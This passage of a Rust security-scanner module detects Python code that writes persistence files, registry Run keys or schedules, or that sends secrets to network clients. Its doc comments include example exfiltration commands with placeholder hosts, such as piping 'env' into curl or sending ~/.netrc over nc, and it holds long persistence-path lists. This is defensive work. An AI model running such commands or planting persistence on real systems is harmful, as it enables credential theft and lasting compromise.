//! Persistence (`python-startup-write`): the files, registry keys and commands that make code
//! run again at a login, on a schedule or at boot, or that send later installs elsewhere.
//!
//! One path fold ([`path_spelling`]) reads every path the same way, whatever spells it:
//! constants and the names bound to them, `+` and f-strings, `os.path.join`, `Path(…) / …`,
//! `joinpath`, `expanduser`, `Path.home()` and the home variables. A piece the fold does not
//! know stands as [`UNKNOWN`], which matches no word, so known pieces on either side of it are
//! never read as one name. The folded spelling is then matched against [`PERSISTENCE_WORDS`]
//! (case-insensitively, `\` read as `/`). Writes are found by `written_path` in the parent
//! module; process calls by [`process_persists`], which reads a command line or an argument
//! list as a shell does (quotes, `;`/`&&`/`|`, redirections, `sh -c`, `cmd /c`, `sudo`/`env`
//! wrappers); Windows registry Run keys by [`registry_run_write`].

use std::collections::{HashMap, HashSet};

use tree_sitter::Node;

use super::names::{Names, Value};
use super::{
    argv_style, dotted, field, is_shell_program, keyword, positional, string_value, text, KindName,
    F,
};

/// Stands for a piece of a path the fold does not know (a parameter, a call's result).
pub(super) const UNKNOWN: char = '\u{1}';
/// Stands for the folder of the module being read (`os.path.dirname(__file__)`,
/// `Path(__file__).parent`): a path that starts with it names a file shipped beside the module
/// ([`shipped_path`]). Like [`UNKNOWN`] it matches no word.
pub(super) const MODULE_DIR: char = '\u{2}';
/// Nodes one fold visits.
const MAX_FOLD_NODES: usize = 64;
/// Expressions one fold nests into.
const MAX_FOLD_DEPTH: u32 = 16;
/// Longest spelling built, in bytes.
pub(super) const MAX_SPELLING: usize = 1024;
/// Words of one command, commands of one process call, nested shells followed.
const MAX_WORDS: usize = 64;
const MAX_COMMANDS: usize = 32;
const MAX_SHELL_DEPTH: u32 = 3;
/// Longest command line split into words, in bytes.
const MAX_LINE: usize = 4096;

/// Path pieces of files that run code at a login, on a schedule or at boot, grant a login, or
/// redirect later installs or tools to a program or an index, in lower case with `/`
/// separators. A word matches where it ends a name (`.profile`, not `.profiles`), and a word
/// that starts with a letter also where it starts one (`git/config`, not `legit/config`).
const PERSISTENCE_WORDS: &[&str] = &[
    // Shell start-up and logout files.
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".zshrc",
    ".zprofile",
    ".zshenv",
    ".zlogin",
    ".zlogout",
    ".profile",
    ".kshrc",
    ".cshrc",
    ".tcshrc",
    "fish/config.fish",
    "fish/conf.d",
    "/etc/profile",
    "/etc/environment",
    // ssh: a key that grants a login, a client config whose `ProxyCommand`/`LocalCommand`
    // runs at every connection, `~/.ssh/rc` run at every login.
    "authorized_keys",
    "authorized_keys2",
    ".ssh/config",
    ".ssh/rc",
    "/etc/ssh/",
    // git configs (`core.fsmonitor`, `core.pager`, `core.sshCommand` name programs git runs)
    // and hooks.
    ".gitconfig",
    "/etc/gitconfig",
    "git/config",
    ".git/hooks",
    // Installer configs: an index redirect for every later install.
    "pip.conf",
    "pip.ini",
    ".pydistutils.cfg",
    "uv/uv.toml",
    // Schedules, services, session autostart.
    "/etc/cron",
    "/var/spool/cron",
    "systemd/user",
    "systemd/system",
    "launchagents",
    "launchdaemons",
    ".config/autostart",
    "xdg/autostart",
    "share/applications",
    "/etc/rc.local",
    "/etc/init.d",
    "ld.so.preload",
    "/etc/sudoers",
    // IPython runs every file of a profile's startup folder.
    "profile_default/startup",
    // The Windows Startup folder (`…\Start Menu\Programs\Startup`).
    "programs/startup",
    // Tools that run what their configuration names (tester t14): Jupyter kernels and server
    // configs, a folder's VS Code tasks (`runOn: folderOpen`), git hook templates, conda and
    // venv activation scripts, login banners, tmux, shell aliases, and a user's own `bin`
    // folder, which comes before the system's on `PATH`.
    "jupyter/kernels",
    "jupyter_server_config.py",
    "jupyter_notebook_config.py",
    ".vscode/tasks.json",
    ".git-templates",
    "etc/conda/activate.d",
    "bin/activate",
    "/etc/update-motd.d",
    ".tmux.conf",
    ".bash_aliases",
    ".local/bin",
];

/// Windows registry keys whose values run a program at logon or at a program's start, in lower
/// case with `/` separators.
const RUN_KEYS: &[&str] = &[
    "currentversion/run",
    "currentversion/runonce",
    "currentversion/runonceex",
    "currentversion/runservices",
    "currentversion/runservicesonce",
    "policies/explorer/run",
    "currentversion/winlogon",
    // `HKCU\Environment` `UserInitMprLogonScript`: a script run at every logon.
    "userinitmprlogonscript",
    "image file execution options",
];

/// `s` in lower case with `\` read as `/` and repeated separators collapsed.
fn normalise(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        let c = if c == '\\' {
            '/'
        } else {
            c.to_ascii_lowercase()
        };
        if c == '/' && out.ends_with('/') {
            continue;
        }
        out.push(c);
    }
    out
}

/// Whether `w` occurs in `s` where it ends a name, and starts one when it starts with a letter.
fn word_in(s: &str, w: &str) -> bool {
    let b = s.as_bytes();
    let name = |c: &u8| c.is_ascii_alphanumeric() || *c == b'_';
    s.match_indices(w).any(|(i, _)| {
        let ends = !b.get(i + w.len()).is_some_and(name);
        let starts = !w.as_bytes()[0].is_ascii_alphanumeric() || i == 0 || !name(&b[i - 1]);
        ends && starts
    })
}

/// One automaton over [`PERSISTENCE_WORDS`]: paths are asked about often (every spelling of
/// every path the module builds), and one pass beats a search per word.
static PERSISTENCE_SEARCH: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| aho_corasick::AhoCorasick::new(PERSISTENCE_WORDS).ok());

/// Whether a path's spelling names a persistence file ([`PERSISTENCE_WORDS`]).
pub(super) fn persistence_in(s: &str) -> bool {
    let s = normalise(s);
    let Some(ac) = PERSISTENCE_SEARCH.as_ref() else {
        return PERSISTENCE_WORDS.iter().any(|w| word_in(&s, w));
    };
    let b = s.as_bytes();
    let name = |c: &u8| c.is_ascii_alphanumeric() || *c == b'_';
    ac.find_overlapping_iter(&s).any(|m| {
        let ends = !b.get(m.end()).is_some_and(name);
        let starts =
            !b[m.start()].is_ascii_alphanumeric() || m.start() == 0 || !name(&b[m.start() - 1]);
        ends && starts
    })
}

/// Whether a spelling names a registry key of [`RUN_KEYS`].
fn run_key_in(s: &str) -> bool {
    if s.len() > 4 * MAX_SPELLING {
        return false;
    }
    let s = normalise(s);
    RUN_KEYS.iter().any(|w| word_in(&s, w))
}

/// The spellings of names bound to paths the name table cannot compute (`d =
/// os.path.join(home, '.ssh')`), by name, as the analyser keeps its other path variables: one
/// map for the module, the last binding in walk order winning (a binding of a name the fold
/// cannot spell removes it).
pub(super) type Spellings = HashMap<String, String>;

/// The spelling of a path expression (see the module docs); `vars` holds the spellings of
/// names bound to paths ([`Spellings`]).
pub(super) fn path_spelling(
    n: Node<'_>,
    src: &[u8],
    names: &Names,
    scope: usize,
    vars: &Spellings,
) -> String {
    let mut f = Fold {
        src,
        names,
        scope,
        vars,
        nodes: MAX_FOLD_NODES,
        out: String::new(),
    };
    f.fold(n, 0);
    f.out
}

struct Fold<'a> {
    src: &'a [u8],
    names: &'a Names,
    scope: usize,
    vars: &'a Spellings,
    nodes: usize,
    out: String,
}

impl Fold<'_> {
    fn push(&mut self, s: &str) {
        let room = MAX_SPELLING.saturating_sub(self.out.len());
        if s.len() <= room {
            self.out.push_str(s);
        } else {
            let mut end = room;
            while !s.is_char_boundary(end) {
                end -= 1;
            }
            self.out.push_str(&s[..end]);
        }
    }

    fn unknown(&mut self) {
        if !self.out.ends_with(UNKNOWN) && self.out.len() < MAX_SPELLING {
            self.out.push(UNKNOWN);
        }
    }

    /// The constant value of `n`, or [`UNKNOWN`].
    fn value(&mut self, n: Node<'_>) {
        match self.names.eval(n, self.src, self.scope) {
            Some(v) => match v.bytes() {
                Some(b) => {
                    let s = String::from_utf8_lossy(b).into_owned();
                    self.push(&s);
                }
                None => self.unknown(),
            },
            None => self.unknown(),
        }
    }

    fn fold(&mut self, n: Node<'_>, depth: u32) {
        if self.nodes == 0 || depth > MAX_FOLD_DEPTH || self.out.len() >= MAX_SPELLING {
            self.unknown();
            return;
        }
        self.nodes -= 1;
        match n.kind_name() {
            "parenthesized_expression" => match n.named_child(0) {
                Some(c) => self.fold(c, depth + 1),
                None => self.unknown(),
            },
            "string" => {
                if let Some(v) = string_value(n, self.src) {
                    self.push(&v);
                    return;
                }
                // An f-string: its text and its fields, each folded.
                let mut c = n.walk();
                let parts: Vec<Node<'_>> = n.named_children(&mut c).take(64).collect();
                for p in parts {
                    match p.kind_name() {
                        "string_content" => {
                            let t = text(p, self.src);
                            self.push(t);
                        }
                        "interpolation" => match p.named_child(0) {
                            Some(e) => self.fold(e, depth + 1),
                            None => self.unknown(),
                        },
                        _ => {}
                    }
                }
            }
            "concatenated_string" => {
                let mut c = n.walk();
                let parts: Vec<Node<'_>> = n.named_children(&mut c).take(64).collect();
                for p in parts {
                    self.fold(p, depth + 1);
                }
            }
            "binary_operator" => {
                // A sum of constants as the name table computes it (long chains included).
                if depth == 0 {
                    if let Some(b) = self
                        .names
                        .eval(n, self.src, self.scope)
                        .as_ref()
                        .and_then(Value::bytes)
                    {
                        let s = String::from_utf8_lossy(b).into_owned();
                        self.push(&s);
                        return;
                    }
                }
                let op = field(n, F::Operator).map(|o| text(o, self.src));
                let (Some(l), Some(r)) = (field(n, F::Left), field(n, F::Right)) else {
                    self.unknown();
                    return;
                };
                match op {
                    Some("+") => {
                        self.fold(l, depth + 1);
                        self.fold(r, depth + 1);
                    }
                    // `Path.home() / '.bashrc'`.
                    Some("/") => {
                        self.fold(l, depth + 1);
                        self.push("/");
                        self.fold(r, depth + 1);
                    }
                    _ => self.value(n),
                }
            }
            "identifier" => match self.vars.get(text(n, self.src)) {
                Some(s) => {
                    let s = s.clone();
                    self.push(&s);
                }
                // The module's own file: a name in the module's folder.
                None if text(n, self.src) == "__file__" => {
                    self.out.push(MODULE_DIR);
                    self.push("/");
                    self.unknown();
                }
                None => self.value(n),
            },
            // `Path(__file__).parent`: the folder of the path.
            "attribute"
                if field(n, F::Attribute).is_some_and(|a| text(a, self.src) == "parent") =>
            {
                match field(n, F::Object) {
                    Some(o) => self.folder_of(o, depth),
                    None => self.unknown(),
                }
            }
            // `os.environ['HOME']`.
            "subscript" => {
                let env =
                    field(n, F::Value).is_some_and(|v| text(v, self.src).ends_with("environ"));
                match field(n, F::Subscript).and_then(|k| string_value(k, self.src)) {
                    Some(k) if env => self.push(&env_spelling(&k)),
                    _ => self.value(n),
                }
            }
            "call" => self.call(n, depth),
            _ => self.value(n),
        }
    }

    /// The folder of the path `n` spells: its spelling less the last component, or
    /// [`UNKNOWN`] when it has none.
    fn folder_of(&mut self, n: Node<'_>, depth: u32) {
        let start = self.out.len();
        self.fold(n, depth + 1);
        match self.out[start..].rfind('/') {
            Some(i) if i > 0 => self.out.truncate(start + i),
            _ => {
                self.out.truncate(start);
                self.unknown();
            }
        }
    }

    fn call(&mut self, n: Node<'_>, depth: u32) {
        let Some(f) = field(n, F::Function) else {
            self.unknown();
            return;
        };
        let name = self
            .names
            .resolve(f, self.src, self.scope)
            .unwrap_or_else(|| dotted(f, self.src));
        let last = name.rsplit('.').next().unwrap_or(&name);
        let args = field(n, F::Arguments);
        let object = (f.kind_name() == "attribute")
            .then(|| field(f, F::Object))
            .flatten();
        let arg0 = args.and_then(|a| positional(a, 0));
        match last {
            // `os.path.join(a, b)`, `posixpath.join`, `ntpath.join`, `from os import path`.
            "join" if name.ends_with("path.join") => {
                let parts = args.map(positionals).unwrap_or_default();
                for (i, p) in parts.into_iter().enumerate() {
                    if i > 0 {
                        self.push("/");
                    }
                    self.fold(p, depth + 1);
                }
            }
            "Path" | "PurePath" | "PosixPath" | "WindowsPath" | "PurePosixPath"
            | "PureWindowsPath" => {
                let parts = args.map(positionals).unwrap_or_default();
                for (i, p) in parts.into_iter().enumerate() {
                    if i > 0 {
                        self.push("/");
                    }
                    self.fold(p, depth + 1);
                }
            }
            "joinpath" if object.is_some() => {
                if let Some(o) = object {
                    self.fold(o, depth + 1);
                }
                for p in args.map(positionals).unwrap_or_default() {
                    self.push("/");
                    self.fold(p, depth + 1);
                }
            }
            "home" if name.ends_with("Path.home") => self.push("~"),
            // `os.path.dirname(__file__)`: the folder of the path.
            "dirname" if name.ends_with("path.dirname") => match arg0 {
                Some(a) => self.folder_of(a, depth),
                None => self.unknown(),
            },
            "getenv" | "get" if name.ends_with("getenv") || name.ends_with("environ.get") => {
                match arg0.and_then(|k| string_value(k, self.src)) {
                    Some(k) => self.push(&env_spelling(&k)),
                    None => self.unknown(),
                }
            }
            // Calls that hand back the path they are given, or the path they are called on.
            "expanduser" | "expandvars" | "abspath" | "realpath" | "normpath" | "normcase"
            | "fspath" | "str" | "resolve" | "absolute" | "as_posix" => match (arg0, object) {
                (Some(a), _) => self.fold(a, depth + 1),
                (None, Some(o)) if !matches!(name.as_str(), "os.path.expanduser") => {
                    self.fold(o, depth + 1)
                }
                _ => self.unknown(),
            },
            _ => self.value(n),
        }
    }
}

/// The positional arguments of an argument list, at most 16.
fn positionals(a: Node<'_>) -> Vec<Node<'_>> {
    let mut c = a.walk();
    let v: Vec<Node<'_>> = a
        .named_children(&mut c)
        .filter(|x| !matches!(x.kind_name(), "keyword_argument" | "comment"))
        .take(16)
        .collect();
    v
}

/// The spelling of an environment variable's value: `~` for the home folder, else `$NAME`.
fn env_spelling(k: &str) -> String {
    match k {
        "HOME" | "USERPROFILE" => "~".to_string(),
        _ => format!("${k}"),
    }
}

/// One command of a process call: its words, the files its redirections write, and whether
/// a pipe feeds it the output of the command before it (`env | curl -d @- URL`).
#[derive(Debug, Default, PartialEq)]
pub(super) struct Command {
    words: Vec<String>,
    writes: Vec<String>,
    piped: bool,
}

/// Whether a process call installs persistence: a command writes a [`PERSISTENCE_WORDS`] file
/// (`tee -a`, `cp`/`mv`/`install`/`ln` to it, `sed -i`, `dd of=`, a `>`/`>>` redirection), or
/// installs a schedule, a service or a Run key (`crontab` given a file or standard input, not
/// `-l`; `systemctl enable`; `launchctl load`/`bootstrap`/`submit`; `schtasks /create`; `at`
/// with a time; `reg add` of a Run key; `sc create`; `update-rc.d`, `chkconfig`,
/// `rc-update`; PowerShell's `Register-ScheduledTask`, `New-Service`, and
/// `New-ItemProperty`/`Set-ItemProperty` of a Run key). `cmds`: [`process_commands`].
pub(super) fn process_persists(cmds: &[Command]) -> bool {
    cmds.iter().any(command_persists)
}

/// The commands a process call runs, read as a shell reads them (module docs): an argument
/// list, an argv-style call's arguments, or a command line; at most [`MAX_COMMANDS`].
pub(super) fn process_commands(
    args: Node<'_>,
    pname: &str,
    src: &[u8],
    names: &Names,
    scope: usize,
    vars: &Spellings,
) -> Vec<Command> {
    let mut c = args.walk();
    let pos: Vec<Node<'_>> = args
        .named_children(&mut c)
        .filter(|x| !matches!(x.kind_name(), "keyword_argument" | "comment"))
        .take(16)
        .collect();
    let word = |x: Node<'_>| {
        string_value(x, src).unwrap_or_else(|| {
            // `[sys.executable, 'helper.py']`: the running interpreter.
            let exe = |d: &str| matches!(d, "sys.executable" | "sys._base_executable");
            if matches!(x.kind_name(), "attribute" | "identifier")
                && (exe(&dotted(x, src)) || names.resolve(x, src, scope).is_some_and(|r| exe(&r)))
            {
                return "python".to_string();
            }
            path_spelling(x, src, names, scope, vars)
        })
    };
    let mut cmds = Vec::new();
    if let Some(list) = pos
        .iter()
        .find(|x| matches!(x.kind_name(), "list" | "tuple"))
    {
        let mut c = list.walk();
        let words: Vec<String> = list
            .named_children(&mut c)
            .take(MAX_WORDS)
            .map(word)
            .collect();
        argv(words, Vec::new(), false, 0, &mut cmds);
    } else if argv_style(pname) {
        // `os.execlp(file, arg0, …)`, `os.spawnlp(mode, file, arg0, …)`: the arguments from the
        // program on, less the program's own path for the `os` functions (arg0 repeats it);
        // `create_subprocess_exec(program, *args)` has none.
        let mut words: Vec<String> = pos
            .iter()
            .skip_while(|x| string_value(**x, src).is_none() && x.kind_name() != "identifier")
            .map(|x| word(*x))
            .collect();
        if (pname.starts_with("os.") || pname.starts_with("posix.")) && words.len() > 1 {
            words.remove(0);
        }
        argv(words, Vec::new(), false, 0, &mut cmds);
    } else if let Some(first) = pos.first() {
        match names.eval(*first, src, scope) {
            Some(Value::Seq(items)) => {
                let words = items
                    .iter()
                    .take(MAX_WORDS)
                    .map(|b| String::from_utf8_lossy(b).into_owned())
                    .collect();
                argv(words, Vec::new(), false, 0, &mut cmds);
            }
            _ => split_line(&word(*first), 0, &mut cmds),
        }
    }
    cmds
}

/// Add the command `words` (with its redirections `writes`) to `out`, and the commands of the
/// command line a shell is given (`sh -c LINE`, `cmd /c LINE`, `powershell -Command LINE`).
fn argv(words: Vec<String>, writes: Vec<String>, piped: bool, depth: u32, out: &mut Vec<Command>) {
    if out.len() >= MAX_COMMANDS {
        return;
    }
    // `env` or `nohup` alone is a command of its own (`env | curl -d @- URL` prints the
    // environment).
    let words = match unwrap(words.clone()) {
        w if w.is_empty() => words,
        w => w,
    };
    if depth < MAX_SHELL_DEPTH && words.first().is_some_and(|p| is_shell_program(p)) {
        let flag = words.iter().position(|w| {
            let l = w.to_ascii_lowercase();
            matches!(l.as_str(), "/c" | "/k" | "-command" | "-c")
                // `bash -lc`, `sh -ec`.
                || (l.starts_with('-') && !l.starts_with("--") && l.len() <= 4 && l.ends_with('c'))
        });
        if let Some(i) = flag {
            // `cmd /c` takes the rest of the line; a POSIX shell the next word.
            let cmd = words[0].to_ascii_lowercase();
            let line = if cmd.ends_with("cmd")
                || cmd.ends_with("cmd.exe")
                || cmd.contains("powershell")
                || cmd.contains("pwsh")
            {
                words[i + 1..].join(" ")
            } else {
                words.get(i + 1).cloned().unwrap_or_default()
            };
            split_line(&line, depth + 1, out);
        }
    }
    out.push(Command {
        words,
        writes,
        piped,
    });
}

/// `words` without the commands that run another (`sudo`, `env`, `nohup` …), their options and
/// leading `NAME=value` assignments.
fn unwrap(mut words: Vec<String>) -> Vec<String> {
    const WRAPPERS: &[&str] = &[
        "sudo", "doas", "nohup", "exec", "env", "command", "nice", "setsid", "time", "timeout",
        "stdbuf", "ionice", "start",
    ];
    let mut i = 0;
    for _ in 0..8 {
        let Some(w) = words.get(i) else { break };
        if w.contains('=') && !w.starts_with('-') {
            i += 1;
            continue;
        }
        if !WRAPPERS.contains(&program(w).as_str()) {
            break;
        }
        i += 1;
        while let Some(w) = words.get(i) {
            if matches!(w.as_str(), "-u" | "-g" | "-n" | "-s") {
                i += 2;
            } else if w.starts_with('-')
                || (w.contains('=') && !w.contains(['/', '\\']))
                || w.bytes().all(|b| b.is_ascii_digit())
            {
                i += 1;
            } else {
                break;
            }
        }
    }
    words.drain(..i.min(words.len()));
    words
}

/// A program's name: its base name in lower case, without `.exe`.
fn program(w: &str) -> String {
    let base = w
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(w)
        .to_ascii_lowercase();
    base.strip_suffix(".exe")
        .map_or(base.clone(), str::to_string)
}

/// Split a command line into commands as a shell does, roughly: words separated by blanks,
/// quotes grouping, `;`, `&`, `|` and line ends separating commands, `>`/`>>` naming a file the
/// command writes (`2>&1` and `>&2` name none). A shell a command starts is followed
/// ([`argv`]).
fn split_line(line: &str, depth: u32, out: &mut Vec<Command>) {
    let line = if line.len() > MAX_LINE {
        let mut end = MAX_LINE;
        while !line.is_char_boundary(end) {
            end -= 1;
        }
        &line[..end]
    } else {
        line
    };
    let mut words: Vec<String> = Vec::new();
    let mut writes: Vec<String> = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut redirect = false;
    let mut quote: Option<char> = None;
    // The command being read takes the output of the one before it (`a | b`, `a |& b`).
    let mut piped = false;
    let mut chars = line.chars().peekable();
    let end_word = |word: &mut String,
                    in_word: &mut bool,
                    redirect: &mut bool,
                    words: &mut Vec<String>,
                    writes: &mut Vec<String>| {
        if *in_word {
            if *redirect {
                writes.push(std::mem::take(word));
                *redirect = false;
            } else if words.len() < MAX_WORDS {
                words.push(std::mem::take(word));
            }
            word.clear();
            *in_word = false;
        }
    };
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), c) => word.push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                in_word = true;
            }
            (None, '>') => {
                // `2>`: the descriptor is no word.
                if in_word && word.bytes().all(|b| b.is_ascii_digit()) {
                    word.clear();
                    in_word = false;
                }
                end_word(
                    &mut word,
                    &mut in_word,
                    &mut redirect,
                    &mut words,
                    &mut writes,
                );
                if chars.peek() == Some(&'>') {
                    chars.next();
                }
                if chars.peek() == Some(&'&') {
                    // `>&2`, `2>&1`: to a descriptor.
                    chars.next();
                    while chars
                        .peek()
                        .is_some_and(|c| c.is_ascii_digit() || *c == '-')
                    {
                        chars.next();
                    }
                } else {
                    redirect = true;
                }
            }
            (None, ';' | '&' | '|' | '\n' | '(' | ')') => {
                end_word(
                    &mut word,
                    &mut in_word,
                    &mut redirect,
                    &mut words,
                    &mut writes,
                );
                redirect = false;
                if !words.is_empty() || !writes.is_empty() {
                    argv(
                        std::mem::take(&mut words),
                        std::mem::take(&mut writes),
                        piped,
                        depth,
                        out,
                    );
                }
                // `|` and `|&` pipe; `||` does not.
                piped = false;
                if c == '|' {
                    if chars.peek() == Some(&'|') {
                        chars.next();
                    } else {
                        piped = true;
                        if chars.peek() == Some(&'&') {
                            chars.next();
                        }
                    }
                }
            }
            (None, c) if c.is_whitespace() => {
                end_word(
                    &mut word,
                    &mut in_word,
                    &mut redirect,
                    &mut words,
                    &mut writes,
                );
            }
            (None, c) => {
                word.push(c);
                in_word = true;
            }
        }
    }
    end_word(
        &mut word,
        &mut in_word,
        &mut redirect,
        &mut words,
        &mut writes,
    );
    if !words.is_empty() || !writes.is_empty() {
        argv(words, writes, piped, depth, out);
    }
}

/// Options of a network client whose value is a file the client reads to authenticate,
/// trusts, or writes, not data it sends: curl's `--cacert`, `--cert`, `--key`,
/// `--netrc-file`, `-o`; wget's `--ca-certificate`, `--private-key`, `-O`; ssh's, scp's and
/// sftp's `-i`, `-F`, `-o`; rsync's `-e` (the remote shell, `ssh -i KEY`).
fn not_sent(prog: &str, option: &str) -> bool {
    match prog {
        "curl" => matches!(
            option,
            "-E" | "-K"
                | "-o"
                | "-D"
                | "-c"
                | "--cacert"
                | "--capath"
                | "--cert"
                | "--key"
                | "--crlfile"
                | "--pinnedpubkey"
                | "--proxy-cacert"
                | "--proxy-cert"
                | "--proxy-key"
                | "--netrc-file"
                | "--config"
                | "--output"
                | "--output-dir"
                | "--dump-header"
                | "--cookie-jar"
        ),
        "wget" => matches!(
            option,
            "-O" | "-o"
                | "-P"
                | "-a"
                | "--ca-certificate"
                | "--ca-directory"
                | "--certificate"
                | "--private-key"
                | "--output-document"
                | "--output-file"
                | "--append-output"
                | "--directory-prefix"
                | "--save-cookies"
        ),
        "ssh" | "scp" | "sftp" => matches!(option, "-i" | "-F" | "-o" | "-E" | "-S"),
        "rsync" => matches!(option, "-e" | "--rsh" | "--password-file"),
        _ => false,
    }
}

/// ssh's options that take a value (`man ssh`): the destination is the first other operand,
/// and what follows it is a command the remote host runs.
const SSH_VALUED: &[&str] = &[
    "-B", "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p",
    "-Q", "-R", "-S", "-W", "-w",
];

/// Programs that send to another host: [`crate::formats::pypkg::NETWORK_PROGRAMS`] and `rsync`.
fn network_client(prog: &str) -> bool {
    prog == "rsync" || crate::formats::pypkg::NETWORK_PROGRAMS.contains(&prog)
}

/// Whether an operand names a file on another host (`user@host:path`, `host.example:`,
/// `rsync://host/x`), as scp, sftp and rsync read them.
fn remote_operand(w: &str) -> bool {
    !w.starts_with('-')
        && (w.starts_with("rsync://")
            || w.split_once(':').is_some_and(|(h, _)| {
                !h.is_empty() && !h.contains('/') && (h.contains('@') || h.contains('.'))
            }))
}

/// The secret a word carries: a credential location ([`super::credential_in`]), a secret
/// variable expanded in it (`$AWS_SECRET_ACCESS_KEY`, `${GITHUB_TOKEN}`), or the environment
/// printed into it (`$(env)`, `` `printenv` ``).
fn secret_in_word(w: &str) -> Option<String> {
    if w.len() > MAX_LINE {
        // A padded word (`'@' + 'A' * 10**6 + '/.ssh/id_rsa'`): its two ends.
        let mut head = MAX_LINE / 2;
        while !w.is_char_boundary(head) {
            head -= 1;
        }
        let mut tail = w.len() - MAX_LINE / 2;
        while !w.is_char_boundary(tail) {
            tail += 1;
        }
        return secret_in_word(&w[..head]).or_else(|| secret_in_word(&w[tail..]));
    }
    if let Some(c) = super::credential_in(w) {
        return Some(c);
    }
    for sub in ["$(env)", "$(printenv)", "`env`", "`printenv`"] {
        if w.contains(sub) {
            return Some("the whole environment".to_string());
        }
    }
    for (i, _) in w.match_indices('$').take(16) {
        let rest = w[i + 1..].trim_start_matches('{');
        let name: String = rest
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .take(65)
            .collect();
        if super::secret_variable(&name) {
            return Some(format!("the {name} environment variable"));
        }
    }
    None
}

/// Whether a command prints the whole environment: `env` or `printenv` with options only,
/// `set` alone, `export -p`, `declare -x`, or `cat` of `/proc/self/environ`.
fn dumps_environment(cmd: &Command) -> bool {
    let Some(prog) = cmd.words.first().map(|w| program(w)) else {
        return false;
    };
    let rest = &cmd.words[1..];
    // `sudo env`: the wrappers are kept when nothing follows them ([`argv`]).
    if let Some(at) = cmd
        .words
        .iter()
        .position(|w| matches!(program(w).as_str(), "env" | "printenv"))
    {
        return cmd.words[at + 1..].iter().all(|w| w.starts_with('-'));
    }
    match prog.as_str() {
        "set" => rest.is_empty(),
        "export" | "declare" | "typeset" => rest.iter().any(|w| w == "-p" || w == "-x"),
        "cat" | "strings" | "tr" | "base64" | "xxd" | "gzip" => rest
            .iter()
            .any(|w| w.starts_with("/proc/") && w.ends_with("/environ")),
        _ => false,
    }
}

/// What a network client among `cmds` sends that is a secret ([`process_commands`]): a
/// credential location, a secret variable or the environment in the data it is given
/// (`curl -d @~/.aws/credentials`, `-F f=@$HOME/.ssh/id_rsa`, `-H "X: $GITHUB_TOKEN"`,
/// `wget --post-file`, `scp ~/.ssh/id_rsa host:`, `socat FILE:… TCP:…`), in a file redirected
/// into it (`nc host 9 < ~/.netrc`) or in a command piped into it (`env | curl -d @- URL`,
/// `cat ~/.netrc | ssh host`). Not sent: the files a client authenticates with, trusts or
/// writes ([`not_sent`]: `ssh -i KEY`, `curl --cacert CA -o OUT`), what scp and rsync copy
/// without another host, and the command ssh has the remote host run (its paths are the
/// remote's). Returns the secret and the client.
pub(super) fn sends_secret(cmds: &[Command]) -> Option<String> {
    for (i, cmd) in cmds.iter().enumerate() {
        let Some(prog) = cmd.words.first().map(|w| program(w)) else {
            continue;
        };
        if !network_client(&prog) {
            continue;
        }
        let rest = &cmd.words[1..];
        let copies = matches!(prog.as_str(), "scp" | "sftp" | "rsync");
        if copies && !rest.iter().any(|w| remote_operand(w)) {
            continue;
        }
        let found = |what: String| Some(format!("{what} (sent with {prog})"));
        // The words it sends: its operands and data options, less the values of
        // [`not_sent`] options and, for ssh, the remote command.
        let mut skip = false;
        let mut input = false;
        let mut destination = false;
        for w in rest {
            if std::mem::take(&mut skip) {
                continue;
            }
            // `< FILE`, `<FILE`: read into the client (not `<<` or `<(`).
            if w == "<" {
                input = true;
                continue;
            }
            let (w, redirected) = match w.strip_prefix('<') {
                Some(f) if !f.starts_with(['<', '(']) => (f, true),
                _ => (w.as_str(), std::mem::take(&mut input)),
            };
            if !redirected && prog == "ssh" {
                if destination {
                    continue;
                }
                if SSH_VALUED.contains(&w) {
                    skip = true;
                    continue;
                }
                if !w.starts_with('-') {
                    destination = true;
                    continue;
                }
            }
            if !redirected {
                let option = w.split_once('=').map_or(w, |(o, _)| o);
                if not_sent(&prog, option) {
                    skip = !w.contains('=');
                    continue;
                }
                // What scp and rsync copy from another host is not sent.
                if copies && remote_operand(w) {
                    continue;
                }
            }
            if let Some(c) = secret_in_word(w) {
                return found(c);
            }
        }
        // The commands piped into it, back to the start of the pipeline.
        let mut j = i;
        while j > 0 && cmds[j].piped {
            j -= 1;
            let feeder = &cmds[j];
            if dumps_environment(feeder) {
                return found("the whole environment".to_string());
            }
            if let Some(c) = feeder.words.iter().find_map(|w| secret_in_word(w)) {
                return found(c);
            }
        }
    }
    None
}

/// The interpreter a package's code starts on a file ([`interpreted_files`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Interpreter {
    /// `python FILE`, `sys.executable FILE`: the file runs as `__main__`.
    Python,
    /// `exec(open(FILE).read())`, `runpy.run_path(FILE)`: the file's code runs in the caller.
    PythonCode,
    /// `sh FILE`, `bash FILE`, `./FILE.sh`.
    Shell,
    /// `pwsh -File FILE`, `powershell FILE.ps1`.
    PowerShell,
    /// `cmd /c FILE.bat`.
    Cmd,
    /// Another interpreter (`node`, `perl`, `ruby`), by its program name; the file is matched
    /// with the byte-pattern rules only.
    Other(String),
    /// A file run as a program (`./install`): its `#!` line decides, a shell without one.
    Direct,
}

impl Interpreter {
    /// How the interpreter is named in a message.
    pub fn name(&self) -> &str {
        match self {
            Interpreter::Python | Interpreter::PythonCode => "Python",
            Interpreter::Shell => "a shell",
            Interpreter::PowerShell => "PowerShell",
            Interpreter::Cmd => "cmd",
            Interpreter::Other(p) => p,
            Interpreter::Direct => "its #! interpreter",
        }
    }
}

/// The interpreter a program name starts, if it is one that runs a script file.
fn interpreter_of(prog: &str) -> Option<Interpreter> {
    let python = prog.strip_prefix("python").is_some_and(|v| {
        v.is_empty() || v == "w" || v.bytes().all(|b| b.is_ascii_digit() || b == b'.')
    }) || matches!(prog, "py" | "pypy" | "pypy3");
    Some(if python {
        Interpreter::Python
    } else if matches!(
        prog,
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "mksh" | "fish"
    ) {
        Interpreter::Shell
